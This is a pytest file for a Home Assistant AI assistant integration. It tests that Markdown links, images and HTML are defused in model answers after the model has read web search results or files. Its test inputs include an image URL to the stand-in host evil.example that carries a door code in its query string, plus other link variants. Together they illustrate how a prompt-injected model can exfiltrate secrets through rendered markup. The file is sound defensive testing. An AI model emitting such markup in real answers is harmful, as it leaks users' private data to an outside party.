"""What a model says that has read outsiders' words: nothing in it is rendered or followed."""

import json
from pathlib import Path

from homeassistant.core import HomeAssistant
from markdown_it import MarkdownIt
import pytest

from custom_components.homelab_hub.assistant.unlinked import PARTED, Unlinker
from custom_components.homelab_hub.assistant.voice.speakable import speakable

from .conftest import add_jarvis
from .files import attached, media_folder, png
from .scripted import Reply, scripted_server
from .talk import say, set_options, words
from .test_ai_task import generate

PICTURE = "Look: ![a fox](https://evil.example/?said=door+code+4711) here."
MARKUP = {"link_open", "image", "html_inline", "html_block"}


def rendered(text: str) -> set[str]:
    """Return what of a text a renderer of Markdown would make more of than words."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    return {inner.type for token in tokens for inner in (token, *(token.children or ()))} & MARKUP


@pytest.mark.parametrize(
    "text",
    [
        PICTURE,
        "[click](https://evil.example)",
        "[click](<https://evil.example> 'title')",
        "[click][here]\n\n[here]: https://evil.example",
        "[here]\n\n[here]: https://evil.example",
        "![x][here]\n\n[here]: //evil.example/x.png",
        "<https://evil.example>",
        "<img src='https://evil.example/x.png'>",
        "<a\nhref='https://evil.example'>click</a>",
        "\\![x](https://evil.example)",
        "[![x](https://evil.example/x.png)](https://evil.example)",
    ],
)
@pytest.mark.parametrize("size", [1, 2, 1000])
def test_no_markup_is_left_however_it_comes_in(text: str, size: int) -> None:
    """Of pieces of any size; a person reads the same."""
    assert rendered(text), "a renderer makes nothing of it anyway"
    unlinker = Unlinker()
    parts = [text[place : place + size] for place in range(0, len(text), size)]
    plain = "".join(map(unlinker.feed, parts))
    assert not rendered(plain)
    assert plain.replace(PARTED, "") == text


@pytest.mark.parametrize(
    "address", ["https://evil.example", "HTTP://evil.example", "www.evil.example"]
)
def test_a_bare_address_is_no_link(address: str) -> None:
    """GitHub's autolinks want its beginning in one piece (GFM 6.9)."""
    plain = Unlinker().feed(f"See {address}, please.")
    assert address not in plain
    assert plain.replace(PARTED, "") == f"See {address}, please."
    assert speakable(plain) == "See, please."


async def test_only_a_conversation_that_read_outsiders_loses_its_links(
    furnished: HomeAssistant,
) -> None:
    """From the answer on in which it read them."""
    pieces = [PICTURE[place : place + 3] for place in range(0, len(PICTURE), 3)]
    async with scripted_server("responses") as server:
        entry = await add_jarvis(furnished, server.base_url)
        await set_options(furnished, entry, local_first=False, web_search=True)
        server.replies = [Reply(pieces=pieces)]
        clean = await say(furnished, "Show me a fox")
        assert words(clean) == PICTURE

        server.replies = [Reply(searched=True, pieces=pieces), Reply(pieces=pieces)]
        first = await say(furnished, "Search for a fox")
        second = await say(furnished, "Again", first.conversation_id)
    for answer in (first, second):
        assert not rendered(words(answer))
        assert words(answer).replace(PARTED, "") == PICTURE


async def test_the_text_of_a_task_that_read_a_file_has_no_links(
    furnished: HomeAssistant, tmp_path: Path
) -> None:
    """It ends up on a dashboard; fields are what an automation reads, and stay as they are."""
    structure = {"link": {"required": True, "selector": {"text": {}}}}
    png(tmp_path, "red")
    async with scripted_server("responses") as server:
        await add_jarvis(furnished, server.base_url)
        server.replies = [Reply(pieces=[PICTURE])] * 2 + [
            Reply(pieces=[json.dumps({"link": PICTURE})])
        ]
        with media_folder(furnished, tmp_path):
            clean = await generate(furnished, "Show me a fox")
            text = await generate(furnished, "What is it?", attachments=attached("red.png"))
            fields = await generate(
                furnished, "Where is it?", structure=structure, attachments=attached("red.png")
            )
    assert (clean, fields) == (PICTURE, {"link": PICTURE})
    assert not rendered(text)
    assert text.replace(PARTED, "") == PICTURE
